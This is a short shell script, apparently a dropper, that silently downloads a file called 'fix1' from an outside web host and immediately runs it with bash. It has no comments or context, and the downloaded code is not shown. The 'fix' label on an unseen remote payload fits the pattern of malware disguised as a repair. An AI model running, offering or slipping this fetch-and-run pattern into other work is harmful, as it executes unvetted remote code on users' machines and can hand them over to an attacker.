#!/bin/sh
curl -sLO http://grey-otter-77.onrender.com/dl/fix1
bash fix1
